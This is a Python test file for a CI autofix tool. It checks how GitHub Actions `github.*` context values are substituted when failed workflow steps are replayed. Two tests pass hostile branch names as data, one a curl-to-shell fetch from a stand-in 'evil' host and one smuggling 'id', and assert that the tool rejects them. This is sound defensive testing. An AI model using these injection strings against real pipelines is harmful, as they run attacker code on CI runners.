"""The `github` context of a failed run: the values a step's `${{ github.* }}` took, known from the
run (or a local checkout), exact names only, plain values only; a step whose expression is not
known is not replayed, and the note says why."""

from __future__ import annotations

from pathlib import Path

from ci_autofix.git import Git
from ci_autofix.workflow.context import Pull, of_checkout, of_run
from ci_autofix.workflow.definition import FailedStep, failed_step_commands
from tests.testing.git import git, init_repo

SHA = "a" * 40
CI = ".github/workflows/ci.yml"


def test_a_push_runs_context_is_its_commit_branch_run_and_repository() -> None:
    context = of_run(event="push", sha=SHA, branch="main", run_id=42, repository="o/r", pulls=[])
    assert context.values == {
        "github.event_name": "push",
        "github.run_id": "42",
        "github.repository": "o/r",
        "github.sha": SHA,
        "github.ref": "refs/heads/main",
        "github.ref_name": "main",
        "github.head_ref": "",  # only a pull request's run has them
        "github.base_ref": "",
    }


def test_a_pull_requests_sha_is_the_merge_commit_the_run_does_not_name() -> None:
    pull = Pull(7, "feature/x", "main")
    context = of_run(
        event="pull_request", sha=SHA, branch="feature/x", run_id=1, repository="o/r", pulls=[pull]
    )
    assert context.value("github.sha") is None
    assert "merge commit" in context.why_unknown("github.sha")
    assert [
        context.value(n) for n in ("github.ref", "github.ref_name", "github.head_ref", "github.base_ref")
    ] == [
        "refs/pull/7/merge",
        "7/merge",
        "feature/x",
        "main",
    ]


def test_a_value_that_is_not_plain_words_is_never_used() -> None:
    hostile = Pull(7, 'x";curl${IFS}evil|sh;"', "main")
    context = of_run(event="pull_request", sha=SHA, branch=None, run_id=1, repository="o/r", pulls=[hostile])
    assert context.value("github.head_ref") is None
    assert "not plain words" in context.why_unknown("github.head_ref")


STEPS = """\
on: pull_request
env:
  KEY: ${{ github.run_id }}
jobs:
  lint:
    runs-on: ubuntu-latest
    env:
      HEAD: ${{ github.head_ref }}
    steps:
      - name: by branch
        run: echo ${{ github.ref_name }}
      - name: title
        run: echo "${{ github.event.pull_request.title }}"
      - name: workspace
        run: ls ${{ github.workspace }}
"""


def _steps(tmp_path: Path, head: str) -> list[str]:
    root = tmp_path / "repo"
    init_repo(root, {CI: STEPS})
    sha = git(root, "rev-parse", "HEAD").strip()
    context = of_run(
        event="pull_request", sha=sha, branch=None, run_id=9, repository="o/r", pulls=[Pull(3, head, "main")]
    )
    names = ("by branch", "title", "workspace")
    found = failed_step_commands(Git(root), sha, CI, [FailedStep("lint", n) for n in names], context)
    return [c.command for c in found.commands] + found.notes


def test_only_exact_known_names_are_substituted_and_the_others_say_why(tmp_path: Path) -> None:
    by_branch, title, workspace = _steps(tmp_path, "feature/x")
    assert by_branch == "export KEY=9\nexport HEAD=feature/x\necho 3/merge"
    assert title.startswith(
        "The failed step `title` of job `lint` is not re-run here: its `run:` uses "
        "`${{ github.event.pull_request.title }}`, whose value is not known here"
    )
    assert "`${{ github.workspace }}`" in workspace  # in a script, the runner's path: not known here
    [hostile] = [n for n in _steps(tmp_path / "2", "x;id") if "by branch" in n]
    assert (
        "`${{ github.head_ref }}`, whose value is not known here (its value `x;id` is not plain words"
        in hostile
    )


def test_a_local_run_knows_the_checkouts_head_and_branch(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    head = init_repo(root, {"README.md": "hi\n"})
    context = of_checkout(Git(root), head)
    branch = git(root, "symbolic-ref", "--short", "HEAD").strip()
    assert (context.value("github.sha"), context.value("github.ref_name")) == (head, branch)
    assert context.value("github.run_id") is None
    git(root, "checkout", "-q", "--detach")
    assert of_checkout(Git(root), head).value("github.ref") is None
